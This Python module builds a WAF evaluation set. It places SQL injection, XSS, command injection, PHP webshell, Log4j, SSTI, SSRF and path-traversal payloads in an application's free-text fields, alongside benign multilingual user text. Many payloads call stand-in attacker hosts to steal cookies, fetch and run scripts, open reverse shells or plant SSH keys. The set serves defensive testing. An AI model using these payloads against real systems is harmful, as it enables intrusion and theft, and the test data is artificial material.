"""Blind WAF test set "twentyseventh": every attack family carried in the free-text fields users really type into.

A WAF has to be tuned loosely on names, bios, notes, comments and search boxes (real users write quotes,
angle brackets, code snippets and paths there), so an attacker prefers exactly those fields. Every payload
here is rotated through three of the application's real free-text fields:

- the data API's JSON bodies: POST /api/users and PATCH /api/users/<id> (flat fields and one level nested,
  e.g. {"profile": {"bio": ...}});
- the data API's query string: GET /api/users?q=...;
- the admin panel's search form: POST /admin/users/search (csrf_token=t0k3n) fields q, notes, display_name,
  name, bio, description;
- the user's own location form: POST /me/location, field place.

Families (category): sqli, xss, rce, php, generic (Node.js, prototype pollution, SSRF), java (Log4j lookups,
OGNL / SpEL / EL), ssti, lfi; `sub` names the sub-family. Full payloads and the short probes attackers type into
search boxes and profile fields first. The benign half carries what real users type into the same fields:
names with apostrophes and accents, bios, notes, punctuated search terms, places and addresses in many
languages, support messages.

Authorship and independence: written by a helper session from its own general knowledge of each attack
family, without reading this repository's WAF rules or docs, any ruleset or its regression tests, the other
generators' payload or text lists, or any public payload list. Measured once on the finished set; nothing was
changed after seeing what the WAF blocks. Deterministic (no randomness, no clock).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .family_gen import _form, _get, _json, _query

NAME = "twentyseventh"
CSRF = ("csrf_token", "t0k3n")

# One slot = one real free-text field. Interleaved so that three consecutive slots are three different
# kinds of input (JSON body, form body, query string).
JSON_FIELDS = ["name", "display_name", "bio", "description", "comment", "message", "notes", "title", "summary",
               "reason", "query", "search"]
ADMIN_FIELDS = ["q", "notes", "display_name", "name", "bio", "description"]
NESTED = [("profile", "bio"), ("profile", "display_name"), ("settings", "notes"), ("profile", "summary"),
          ("meta", "comment"), ("profile", "title")]


def _slots() -> list[tuple[str, str, str]]:
    """(kind, container, field) slots in a fixed interleaved order."""
    out: list[tuple[str, str, str]] = []
    for i in range(12):
        out.append(("post", "", JSON_FIELDS[i]))
        out.append(("admin", "", ADMIN_FIELDS[i % len(ADMIN_FIELDS)]))
        if i % 3 == 0:
            out.append(("query", "", "q"))
        elif i % 3 == 1:
            out.append(("me", "", "place"))
        else:
            out.append(("nested", *NESTED[(i // 3) % len(NESTED)]))
        out.append(("patch", "", JSON_FIELDS[(i + 5) % len(JSON_FIELDS)]))
        out.append(("admin", "", ADMIN_FIELDS[(i + 3) % len(ADMIN_FIELDS)]))
        out.append(("nested", *NESTED[i % len(NESTED)]) if i % 2 else ("query", "", "q"))
    return out


SLOTS = _slots()


def _request(slot: tuple[str, str, str], text: str, n: int) -> tuple[dict[str, Any], str]:
    kind, container, field = slot
    if kind == "post":
        return _json("/api/users", {field: text, "email": f"user{n}@example.com"}), f"api-json:{field}"
    if kind == "patch":
        rec = _json(f"/api/users/{1000 + n}", {field: text})
        rec["method"] = "PATCH"
        return rec, f"api-json-patch:{field}"
    if kind == "nested":
        rec = _json(f"/api/users/{2000 + n}" if n % 2 else "/api/users", {container: {field: text}})
        if n % 2:
            rec["method"] = "PATCH"
        return rec, f"api-json-nested:{container}.{field}"
    if kind == "query":
        return _get(_query("/api/users", [("q", text)])), "api-query:q"
    if kind == "admin":
        return _form("/admin/users/search", [CSRF, (field, text)]), f"admin-form:{field}"
    return _form("/me/location", [("place", text)]), "me-form:place"


SQLI: list[tuple[str, str]] = [
    ("probe", "'"),
    ("probe", "O'Brien'--"),
    ("probe", "1' OR '1'='1"),
    ("probe", "\" or \"\"=\""),
    ("probe", "admin'#"),
    ("probe", "x') OR ('a'='a"),
    ("probe", "1 AND 1=1"),
    ("probe", "1 AND 1=2-- -"),
    ("auth-bypass", "' OR 1=1 LIMIT 1 -- "),
    ("auth-bypass", "admin' OR 'x'='x'/*"),
    ("auth-bypass", "') or true--"),
    ("auth-bypass", "' || 1=1 --"),
    ("union", "' UNION SELECT username, password FROM users--"),
    ("union", "zzz' UNION ALL SELECT NULL,NULL,NULL-- -"),
    ("union", "-1 UNION SELECT 1,@@version,3"),
    ("union", "' union select table_name,2 from information_schema.tables where table_schema=database()-- "),
    ("union", "x' UnIoN/**/SeLeCt/**/user(),2,3#"),
    ("union", "1' union select column_name from information_schema.columns where table_name='users'--"),
    ("union", "') UNION SELECT group_concat(email,0x3a,pass) FROM accounts-- -"),
    ("union", "smith' UNION SELECT sqlite_version(),name FROM sqlite_master--"),
    ("union", "' union select 1,load_file('/etc/passwd'),3-- -"),
    ("boolean", "alice' AND SUBSTRING(@@version,1,1)='5"),
    ("boolean", "bob' AND (SELECT COUNT(*) FROM users) > 0 AND 'a'='a"),
    ("boolean", "1' AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),1,1))>64--"),
    ("boolean", "x' AND 1=(SELECT 1 FROM dual WHERE 1=1)--"),
    ("boolean", "carol' and length(database())=8 -- -"),
    ("time", "1' AND SLEEP(5)-- -"),
    ("time", "'; WAITFOR DELAY '0:0:5'--"),
    ("time", "x' AND (SELECT 1 FROM (SELECT SLEEP(10))a)-- "),
    ("time", "1' || pg_sleep(5) --"),
    ("time", "' AND BENCHMARK(5000000,MD5('a'))#"),
    ("time", "1;SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END--"),
    ("time", "x' and 1=dbms_pipe.receive_message('a',5)--"),
    ("error", "' AND extractvalue(1,concat(0x7e,(SELECT version())))-- "),
    ("error", "' AND updatexml(1,concat(0x7e,user()),1)#"),
    ("error", "1' AND 1=CONVERT(int,(SELECT @@version))--"),
    ("error", "x' AND 1=CAST((SELECT current_user) AS int)--"),
    ("error", "' or (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x "
              "from information_schema.tables group by x)a)-- "),
    ("stacked", "'; DROP TABLE users;--"),
    ("stacked", "Robert'); DROP TABLE students;--"),
    ("stacked", "1; UPDATE users SET role='admin' WHERE id=1--"),
    ("stacked", "x'; INSERT INTO admins(name) VALUES ('eve');--"),
    ("stacked", "'; EXEC xp_cmdshell 'whoami'--"),
    ("stacked", "1'; COPY (SELECT '') TO PROGRAM 'id'--"),
    ("stacked", "'; SELECT * INTO OUTFILE '/var/www/html/s.php' FROM users;#"),
    ("order-by", "name ORDER BY 5-- -"),
    ("order-by", "1 GROUP BY 1,2,3 HAVING 1=1--"),
    ("nosql-ish", "' OR '1'='1' /*!50000UNION*/ /*!50000SELECT*/ 1,2-- "),
    ("obfuscated", "'%20or%201=1--"),
    ("obfuscated", "1'/**/oR/**/'1'='1"),
]

XSS: list[tuple[str, str]] = [
    ("probe", "<b>hi</b>"),
    ("probe", "\"><i>x"),
    ("probe", "'\"><svg>"),
    ("probe", "<u onmouseover=alert(1)>bio</u>"),
    ("probe", "</textarea><script>"),
    ("probe", "javascript:alert(1)"),
    ("script", "<script>alert(document.cookie)</script>"),
    ("script", "<script src=//evil.example/x.js></script>"),
    ("script", "\"><script>fetch('//evil.example/?c='+document.cookie)</script>"),
    ("script", "<ScRiPt>alert`1`</sCrIpT>"),
    ("script", "</title><script>new Image().src='//x.example/'+localStorage.token</script>"),
    ("script", "<script>eval(atob('YWxlcnQoMSk='))</script>"),
    ("event", "<img src=x onerror=alert(1)>"),
    ("event", "<img src=x onerror=\"this.src='//e.example/?'+document.cookie\">"),
    ("event", "<body onload=alert(1)>"),
    ("event", "<input autofocus onfocus=alert(1)>"),
    ("event", "<details open ontoggle=alert(1)>"),
    ("event", "<video><source onerror=alert(1)>"),
    ("event", "<marquee onstart=confirm(1)>hi</marquee>"),
    ("event", "\" onmouseover=\"alert(1)\" x=\""),
    ("event", "' autofocus onfocus='prompt(1)"),
    ("event", "<div style=\"width:100%;height:100%\" onpointerenter=alert(1)>"),
    ("svg", "<svg onload=alert(1)>"),
    ("svg", "<svg/onload=alert(document.domain)>"),
    ("svg", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg", "<svg><script>alert(1)</script></svg>"),
    ("svg", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("uri", "<a href=\"javascript:alert(1)\">my site</a>"),
    ("uri", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("uri", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    ("uri", "<iframe srcdoc=\"<script>alert(1)</script>\">"),
    ("uri", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("uri", "<form action=javascript:alert(1)><button>go</button></form>"),
    ("uri", "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">"),
    ("encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ("encoded", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("encoded", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("dom", "<base href=\"//evil.example/\">"),
    ("dom", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("dom", "<link rel=stylesheet href=//evil.example/x.css>"),
    ("dom", "<style>@import '//evil.example/x.css';</style>"),
]

RCE: list[tuple[str, str]] = [
    ("probe", "; id"),
    ("probe", "| whoami"),
    ("probe", "`id`"),
    ("probe", "$(id)"),
    ("probe", "&& uname -a"),
    ("probe", "x || ping -c 3 127.0.0.1"),
    ("chain", "Berlin; cat /etc/passwd"),
    ("chain", "test | cat /etc/shadow"),
    ("chain", "a && curl http://evil.example/s.sh | sh"),
    ("chain", "x; wget -qO- http://203.0.113.7/p | bash"),
    ("chain", "foo; rm -rf /tmp/*; echo done"),
    ("chain", "q; ls -la /var/www; #"),
    ("chain", "1; sleep 10"),
    ("chain", "; nc -e /bin/sh 203.0.113.7 4444"),
    ("chain", "name%0acat%20/etc/passwd"),
    ("subst", "$(curl -s http://evil.example/$(whoami))"),
    ("subst", "`cat /etc/passwd | base64`"),
    ("subst", "${IFS}cat${IFS}/etc/passwd"),
    ("subst", "a;cat$IFS/etc/passwd"),
    ("subst", "$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh)"),
    ("subst", "x$(printf '\\x69\\x64')"),
    ("subst", "{cat,/etc/passwd}"),
    ("subst", "c'a't /e't'c/pa's'swd"),
    ("subst", "/???/c?t /???/p??s??"),
    ("revshell", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("revshell", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",9001));"
                 "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("revshell", "| perl -e 'use Socket;$i=\"203.0.113.7\";$p=1234;socket(S,PF_INET,SOCK_STREAM,0);'"),
    ("revshell", "; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 80 > /tmp/f"),
    ("revshell", "; php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("revshell", "; ruby -rsocket -e 'exec \"/bin/sh\"'"),
    ("windows", "& type C:\\Windows\\win.ini"),
    ("windows", "| powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')\""),
    ("windows", "& cmd.exe /c dir c:\\"),
    ("windows", "| net user hacker P@ss /add"),
    ("windows", "& certutil -urlcache -split -f http://evil.example/x.exe x.exe"),
    ("windows", "; powershell -enc SQBFAFgA"),
    ("exfil", "; curl -d @/etc/passwd http://evil.example/"),
    ("exfil", "| nslookup $(whoami).evil.example"),
    ("exfil", "; echo 'ssh-rsa AAAAB3Nza attacker' >> ~/.ssh/authorized_keys"),
]

PHP: list[tuple[str, str]] = [
    ("probe", "<?php phpinfo(); ?>"),
    ("probe", "<?= 7*7 ?>"),
    ("probe", "${phpinfo()}"),
    ("code", "<?php system($_GET['cmd']); ?>"),
    ("code", "<?php echo shell_exec('id'); ?>"),
    ("code", "<?php eval($_POST['x']);"),
    ("code", "<?php passthru($_REQUEST['c']); ?>"),
    ("code", "<?php file_put_contents('s.php', '<?php system($_GET[0]);'); ?>"),
    ("code", "<? @eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); ?>"),
    ("code", "<?php $f=$_GET['f'];$f($_GET['a']); ?>"),
    ("code", "<script language=\"php\">system('id');</script>"),
    ("functions", "system('cat /etc/passwd');"),
    ("functions", "eval(gzinflate(base64_decode('S0lNzsgvUshIzcnJBwA=')));"),
    ("functions", "assert(stripslashes($_REQUEST['e']))"),
    ("functions", "preg_replace('/.*/e', 'system(\"id\")', 'x')"),
    ("functions", "call_user_func('system', 'whoami')"),
    ("functions", "create_function('', 'system(\"id\");')"),
    ("functions", "proc_open('id', array(), $p)"),
    ("functions", "array_map('system', array('id'))"),
    ("functions", "include($_GET['page'] . '.php');"),
    ("wrapper", "php://filter/convert.base64-encode/resource=index.php"),
    ("wrapper", "php://input"),
    ("wrapper", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
    ("wrapper", "expect://id"),
    ("wrapper", "phar:///var/www/uploads/avatar.jpg"),
    ("wrapper", "zip://uploads/x.zip#shell.php"),
    ("serialize", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("serialize", "a:2:{i:0;O:12:\"SplFileInfo\":0:{}i:1;s:2:\"id\";}"),
    ("serialize", "O:21:\"Monolog\\Handler\\Buffer\":1:{s:7:\"handler\";N;}"),
    ("serialize", "C:11:\"ArrayObject\":37:{x:i:0;a:0:{};m:a:0:{}}"),
]

GENERIC: list[tuple[str, str]] = [
    ("nodejs", "require('child_process').exec('id')"),
    ("nodejs", "process.mainModule.require('child_process').execSync('cat /etc/passwd')"),
    ("nodejs", "global.process.exit()"),
    ("nodejs", "this.constructor.constructor('return process')().env"),
    ("nodejs", "new Function('return require(\"fs\").readFileSync(\"/etc/passwd\")')()"),
    ("nodejs", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("nodejs", "{\"$where\": \"sleep(5000)\"}"),
    ("nodejs", "';return true;var x='"),
    ("proto", "__proto__[isAdmin]=true"),
    ("proto", "{\"__proto__\": {\"admin\": true}}"),
    ("proto", "constructor.prototype.polluted=1"),
    ("proto", "constructor[prototype][role]=admin"),
    ("proto", "Object.prototype.isAdmin = true"),
    ("proto", "x[__proto__][toString]=1"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("ssrf", "http://127.0.0.1:6379/"),
    ("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ("ssrf", "file:///etc/passwd"),
    ("ssrf", "http://[::1]:8080/admin"),
    ("ssrf", "dict://localhost:11211/stats"),
    ("ssrf", "http://0x7f000001/server-status"),
    ("ssrf", "http://localhost@evil.example/"),
]

JAVA: list[tuple[str, str]] = [
    ("log4j", "${jndi:ldap://evil.example/a}"),
    ("log4j", "${jndi:rmi://203.0.113.7:1099/x}"),
    ("log4j", "${jndi:dns://evil.example/q}"),
    ("log4j", "Hi ${${lower:j}ndi:${lower:l}dap://evil.example/x}"),
    ("log4j", "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/y}"),
    ("log4j", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/}"),
    ("log4j", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/z}"),
    ("log4j", "${sys:java.version}"),
    ("ognl", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl", "${#context['xwork.MethodAccessor.denyMethodExecution']=false}"),
    ("ognl", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}"),
    ("ognl", "(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('whoami'))"),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel", "${T(java.lang.System).getenv()}"),
    ("spel", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id')"
             ".getInputStream())}"),
    ("spel", "#{new java.lang.ProcessBuilder('id').start()}"),
    ("el", "${pageContext.request.getSession().setAttribute('admin', true)}"),
    ("el", "${applicationScope}"),
    ("el", "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el", "${''.getClass().forName('java.lang.System').getProperty('user.dir')}"),
    ("deser", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="),
    ("deser", "<java.util.PriorityQueue serialization='custom'><unserializable-parents/></java.util.PriorityQueue>"),
    ("deser", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/a\"}"),
]

SSTI: list[tuple[str, str]] = [
    ("probe", "{{7*7}}"),
    ("probe", "${7*7}"),
    ("probe", "<%= 7*7 %>"),
    ("jinja", "{{ config.items() }}"),
    ("jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("jinja", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}"),
    ("twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("erb", "<%= `id` %>"),
    ("velocity", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"),
]

LFI: list[tuple[str, str]] = [
    ("probe", "../../etc/passwd"),
    ("traversal", "../../../../../../etc/passwd"),
    ("traversal", "..\\..\\..\\windows\\win.ini"),
    ("traversal", "....//....//....//etc/shadow"),
    ("traversal", "../../../../proc/self/environ"),
    ("traversal", "../../../var/log/nginx/access.log"),
    ("encoded", "..%2f..%2f..%2fetc%2fpasswd"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
    ("encoded", "..%252f..%252f..%252fetc%252fpasswd"),
    ("encoded", "..%c0%af..%c0%afetc/passwd"),
    ("absolute", "/etc/passwd%00.png"),
    ("absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
]

FAMILIES: list[tuple[str, list[tuple[str, str]]]] = [
    ("sqli", SQLI), ("xss", XSS), ("rce", RCE), ("php", PHP), ("generic", GENERIC), ("java", JAVA),
    ("ssti", SSTI), ("lfi", LFI)]


def attacks() -> Iterator[dict[str, Any]]:
    """Each payload in three consecutive (hence different-kind) free-text slots."""
    slot = 0
    for family, payloads in FAMILIES:
        n = 0
        for sub, payload in payloads:
            for _ in range(3):
                n += 1
                rec, placement = _request(SLOTS[slot % len(SLOTS)], payload, n)
                slot += 1
                rec.update({"id": f"{NAME}-{family}-{n:04d}", "category": family, "placement": placement,
                            "sub": sub, "payload": payload})
                yield rec


BENIGN: list[tuple[str, str]] = [
    ("name", "Seán O'Connor"),
    ("name", "D'Angelo Russell"),
    ("name", "Zoë Saldaña-Pérez"),
    ("name", "François-Xavier L'Héritier"),
    ("name", "Björn Þórsson"),
    ("name", "Ngozi Okonjo-Iweala"),
    ("name", "Nguyễn Thị Minh Khai"),
    ("name", "李小龙"),
    ("name", "Мария Иванова"),
    ("name", "O'Reilly & Sons"),
    ("name", "J.R.R. Tolkien"),
    ("name", "Anne-Marie \"Annie\" Dubois"),
    ("name", "محمد عبد الله"),
    ("name", "Łukasz Żółkiewski"),
    ("name", "Dr. Mary-Kate O'Neil, PhD"),
    ("name", "יעל כהן"),
    ("name", "Renée & Zoë"),
    ("name", "St. John-Smythe III"),
    ("bio", "Backend engineer. I like Go, Rust & SQL (mostly Postgres). Don't @ me about tabs vs spaces."),
    ("bio", "Product designer @ Acme — previously at Initech. She/her."),
    ("bio", "Dad of 2, runner, amateur baker. \"Sourdough or bust!\""),
    ("bio", "I select the best coffee beans from Ethiopia and drop them off at the office every Friday."),
    ("bio", "Data analyst: I write queries all day (SELECT-heavy, sorry DBAs) and union-rep on weekends."),
    ("bio", "On-call for payments; if it's 3am and you're paging me, it had better be important :)"),
    ("bio", "Ex-teacher, now doing QA. I break things for a living <3"),
    ("bio", "Ich arbeite im Support-Team in München und spreche Deutsch, Englisch und ein bisschen Türkisch."),
    ("bio", "Développeuse front-end à Lyon. J'aime le café, le vélo et les bons croissants."),
    ("bio", "東京在住のエンジニアです。趣味は写真と登山。"),
    ("bio", "Maintainer of our internal CLI; run `jeeves --help` if you're stuck."),
    ("bio", "50% ops, 50% dev, 100% tired. Views are my own."),
    ("bio", "I love cats & dogs; allergic to both. Life's funny that way."),
    ("bio", "Security team. Ask me about phishing, passwords and why you shouldn't click that link."),
    ("bio", "Working remotely from Lisbon (UTC+0/+1). Best reached after 10:00."),
    ("bio", "Former chef -> now SRE. Still think mise en place applies to deploys."),
    ("description", "Team lead for the mobile squad; owns iOS/Android releases and the 2.x -> 3.0 migration."),
    ("description", "Contractor (through 31/12) — access to staging only, not prod."),
    ("description", "Account created for the Q3 hackathon; delete after Sept. 30th."),
    ("description", "Shared mailbox for billing@ and invoices@; forwards to finance."),
    ("description", "Intern, summer '24. Mentor: Priya."),
    ("description", "Handles vendor onboarding (NDAs, W-9s, etc.) and approves <= $5,000 purchases."),
    ("description", "Service account used by the nightly report job (runs at 02:00 UTC)."),
    ("description", "Temporary admin while Jo is on leave; revert to 'member' on return."),
    ("description", "Part-time: Mon/Wed/Fri only. Prefers Slack over e-mail."),
    ("description", "Works with the legal team on GDPR & CCPA requests."),
    ("notes", "Called on 3/14 — wants the invoice re-sent to the new address."),
    ("notes", "Customer said: \"the export button doesn't do anything\". Reproduced on Safari 17."),
    ("notes", "Reset 2FA after phone was lost; verified via video call. ID checked."),
    ("notes", "Escalated to tier 2. Ticket #48213; see also #48190."),
    ("notes", "Don't merge accounts yet — waiting on confirmation from both users."),
    ("notes", "User typed their password into the name field by mistake; asked them to rotate it."),
    ("notes", "Moved from team A to team B; update the on-call rotation & the wiki page."),
    ("notes", "Refund approved (50%) per manager; amount: €42.50."),
    ("notes", "Prefers to be called Sam, not Samantha."),
    ("notes", "Follow up next week; he's out until Tue. 1/2 done so far."),
    ("notes", "Asked whether we can drop the old email alias; said yes, after the 15th."),
    ("notes", "Language: es-MX. Timezone: America/Mexico_City."),
    ("comment", "Great job on the release!! 🎉"),
    ("comment", "Can we select a different date for the offsite? The 12th clashes with the board meeting."),
    ("comment", "+1, same issue here (Chrome 126 on Windows 11)."),
    ("comment", "Where's the doc for the new expense policy? The link in #general is 404ing."),
    ("comment", "LGTM — though I'd rename `user_id` to `account_id` for clarity."),
    ("comment", "Thanks! That fixed it :-)"),
    ("comment", "Is 5 > 3? Asking for a friend who does our sprint estimates."),
    ("comment", "I'll drop by your desk around 2-ish, if that's OK?"),
    ("message", "Hi, I can't log in since this morning — it says my session expired. Can you help?"),
    ("message", "Hello! Please update my display name to 'Kate' (not Katherine). Thanks in advance."),
    ("message", "My manager changed and now I can't see the Finance channel; could you re-add me?"),
    ("message", "Hi team, the bot replied \"unknown command\" when I typed /jeeves status. Any idea why?"),
    ("message", "Bonjour, je n'arrive pas à changer ma photo de profil. Merci d'avance !"),
    ("message", "Hola, ¿pueden cambiar mi correo a la nueva dirección? Gracias."),
    ("message", "I accidentally deleted a note; is there any way to restore it from yesterday?"),
    ("message", "Urgent: new hire starts Monday and still has no account. Name: Tomás Ruiz."),
    ("message", "Please remove my old phone number (+1 555-0100) from my profile."),
    ("message", "Could you or someone from IT check why the VPN drops every ~30 min?"),
    ("title", "Senior Software Engineer II"),
    ("title", "VP, Sales & Partnerships (EMEA)"),
    ("title", "Head of People / HR"),
    ("title", "C++ Developer"),
    ("title", "R&D Manager"),
    ("title", "Office Manager — Berlin"),
    ("summary", "Q2 goals: ship SSO, cut p95 latency by 20%, hire 2 backend devs."),
    ("summary", "Weekly sync: decided to drop IE11 support; migrate the rest by 1 Aug."),
    ("summary", "Incident 2024-05-03: DB failover took 4 min; action items assigned."),
    ("summary", "Onboarding checklist: laptop, badge, accounts, 1:1 with manager."),
    ("reason", "Left the company on 2024-06-30."),
    ("reason", "Duplicate account (old one used jane.doe@, new one jdoe@)."),
    ("reason", "Requested by the user: \"please close my account\"."),
    ("reason", "Role change — moved to contractor status."),
    ("reason", "Too many failed logins; unlocked after identity check."),
    ("search", "o'brien"),
    ("search", "smith, john"),
    ("search", "\"mary jane\""),
    ("search", "josé"),
    ("search", "dev-ops"),
    ("search", "c#"),
    ("search", "@alice"),
    ("search", "tag:design -archived"),
    ("search", "name:\"Van der Berg\""),
    ("search", "100%"),
    ("search", "who's on call?"),
    ("search", "finance & ops"),
    ("search", "müller"),
    ("search", "front end OR frontend"),
    ("search", "ana_m*"),
    ("search", "select committee"),
    ("search", "2024/05"),
    ("search", "(marketing)"),
    ("place", "221B Baker Street, London NW1 6XE"),
    ("place", "Champs-Élysées, 75008 Paris"),
    ("place", "Straße des 17. Juni 135, 10623 Berlin"),
    ("place", "東京都千代田区丸の内1-9-1"),
    ("place", "Calle de Alcalá, 28014 Madrid, España"),
    ("place", "Москва, Красная площадь, 1"),
    ("place", "São Paulo - SP, Brasil"),
    ("place", "1600 Amphitheatre Pkwy, Mountain View, CA 94043"),
    ("place", "Kraków, ul. Floriańska 3/5"),
    ("place", "Dublin 2 (near St. Stephen's Green)"),
    ("place", "서울특별시 중구 세종대로 110"),
    ("place", "القاهرة، مصر"),
    ("place", "Home office — 3rd floor, apt #12"),
    ("place", "Zürich HB, Gleis 7"),
    ("place", "Reykjavík, Ísland"),
    ("place", "O'Hare Int'l Airport, Terminal 1"),
    ("place", "Mumbai, Maharashtra 400001"),
    ("place", "Building C / Room 4.12"),
]


def benign() -> Iterator[dict[str, Any]]:
    """Each text twice, in two different slots of the kinds that fit it."""
    n = 0
    by_field = {"search": ["query", "admin-q", "json-search"], "place": ["me", "json-place", "admin-notes"]}
    for i, (kind, text) in enumerate(BENIGN):
        for k in range(2):
            n += 1
            if kind in by_field:
                how = by_field[kind][(i + k) % 3]
                if how == "query":
                    rec, placement = _get(_query("/api/users", [("q", text)])), "api-query:q"
                elif how == "admin-q":
                    rec, placement = _form("/admin/users/search", [CSRF, ("q", text)]), "admin-form:q"
                elif how == "json-search":
                    rec, placement = _json("/api/users", {"search": text}), "api-json:search"
                elif how == "me":
                    rec, placement = _form("/me/location", [("place", text)]), "me-form:place"
                elif how == "json-place":
                    rec = _json(f"/api/users/{3000 + n}", {"profile": {"summary": f"Based in {text}"}})
                    rec["method"] = "PATCH"
                    placement = "api-json-nested:profile.summary"
                else:
                    rec = _form("/admin/users/search", [CSRF, ("notes", f"Office: {text}")])
                    placement = "admin-form:notes"
            else:
                field = {"message": "message", "comment": "comment", "reason": "reason", "summary": "summary",
                         "title": "title"}.get(kind, kind)
                admin_ok = field in ADMIN_FIELDS
                choice = (i + k) % 4
                if choice == 0:
                    rec, placement = _json("/api/users", {field: text}), f"api-json:{field}"
                elif choice == 1:
                    rec = _json(f"/api/users/{4000 + n}", {field: text})
                    rec["method"] = "PATCH"
                    placement = f"api-json-patch:{field}"
                elif choice == 2 and admin_ok:
                    rec, placement = _form("/admin/users/search", [CSRF, (field, text)]), f"admin-form:{field}"
                else:
                    rec = _json("/api/users", {"profile": {field: text}})
                    placement = f"api-json-nested:profile.{field}"
            rec.update({"id": f"{NAME}-benign-{kind}-{n:04d}", "category": "benign", "placement": placement,
                        "sub": kind})
            yield rec
